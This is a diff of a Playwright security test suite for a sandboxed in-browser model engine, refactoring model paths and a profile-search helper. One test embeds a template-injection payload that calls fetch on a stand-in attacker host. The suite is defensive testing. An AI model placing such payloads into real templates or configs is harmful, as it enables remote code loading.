@@ -2,10 +2,8 @@
  * Attacks on the seal, in real Chromium: script inside the sealed worker tries every way out, a hostile page script reads every
  * message, a hostile model folder is loaded, and the network is watched while a person uses the demo.
  */
-import { createHash } from 'node:crypto';
 import { readdirSync, readFileSync, statSync } from 'node:fs';
 import { join } from 'node:path';
-import { fileURLToPath } from 'node:url';
 import {
   type BrowserContext,
   chromium,
@@ -17,15 +15,16 @@ import {
 } from '@playwright/test';
 import type { E2PError, Personalizer, Session, User } from '../src/index.ts';
 import { type FaultServer, startFaultServer } from '../src/testing/fault-server.ts';
+import { TINY_MODEL } from '../src/testing/tiny-encoder.ts';
 import { GLOBAL_EXITS, METHOD_EXITS, NAVIGATOR_EXITS } from '../src/worker/exits.ts';
 import { launchOptions } from './chromium.ts';
 import type { Harness } from './harness/harness.ts';
 import { HARMLESS, HARMLESS_IN_NAVIGATOR } from './known-globals.ts';
 import { DEMO_URL, HARNESS_URL } from './ports.ts';
+import { searchProfile } from './search-profile.ts';
 
 declare const harness: Harness;
 
-const MODEL = fileURLToPath(new URL('../public/models/e2p-tiny', import.meta.url));
 /** Numbers that occur nowhere else. */
 const EMBEDDING = Array.from({ length: 32 }, (_, i) => Math.fround(Math.sin(i * 12.9898 + 4.1414) * 1.37));
 const PROMPT = 'Story: pocket drone, Quillon, Rook, calmer nerves';
@@ -226,14 +225,14 @@ test('a page script that holds the port of the engine and asks for everything ne
 test('a hostile model folder, projector and prompt cause no request of their own', async ({ page }) => {
   const url = `${evil.url}/evil.js`;
   const script = `{{ ''.constructor.constructor('return fetch("${url}")')() }}{{ self.fetch("${url}") }}`;
-  for (const path of readdirSync(MODEL, { recursive: true, encoding: 'utf8' })) {
-    if (statSync(join(MODEL, path)).isFile() && !path.endsWith('manifest.json'))
-      evil.files.set(`/m/${path}`, readFileSync(join(MODEL, path)));
+  for (const path of readdirSync(TINY_MODEL, { recursive: true, encoding: 'utf8' })) {
+    if (statSync(join(TINY_MODEL, path)).isFile() && !path.endsWith('manifest.json'))
+      evil.files.set(`/m/${path}`, readFileSync(join(TINY_MODEL, path)));
   }
   const edit = (path: string, change: (json: Record<string, unknown>) => object) =>
     evil.files.set(
       `/m/${path}`,
-      Buffer.from(JSON.stringify(change(JSON.parse(readFileSync(join(MODEL, path), 'utf8'))))),
+      Buffer.from(JSON.stringify(change(JSON.parse(readFileSync(join(TINY_MODEL, path), 'utf8'))))),
     );
   edit('config.json', (json) => ({
     ...json,
@@ -482,28 +481,6 @@ interface Running {
   readonly personalizer: Personalizer;
   readonly session: Session;
   readonly user: User;
-}
-
-/** What of it lies anywhere in a profile's files; and whether weights and vault do, so that this is where things are kept. */
-function searchProfile(profile: string, secrets: Readonly<Record<string, Buffer>>) {
-  const chunk = createHash('sha256')
-    .update(readFileSync(join(MODEL, 'onnx/model_q4.onnx')))
-    .digest('hex');
-  const files = readdirSync(profile, { recursive: true, encoding: 'utf8' })
-    .map((path) => join(profile, path))
-    .filter((path) => statSync(path, { throwIfNoEntry: false })?.isFile())
-    .map((path) => [path, readFileSync(path)] as const);
-  return {
-    weights: files.some(([, bytes]) => createHash('sha256').update(bytes).digest('hex') === chunk),
-    vault: files.some(
-      ([, bytes]) => bytes.includes('e2p-vault') || bytes.includes(Buffer.from('e2p-vault', 'utf16le')),
-    ),
-    found: files.flatMap(([path, bytes]) =>
-      Object.entries(secrets).flatMap(([what, secret]) =>
-        bytes.includes(secret) ? [`${what}: ${path}`] : [],
-      ),
-    ),
-  };
 }
 
 /** Addresses that were asked for from now on, by the page, its workers and service workers; without what a policy stopped. */
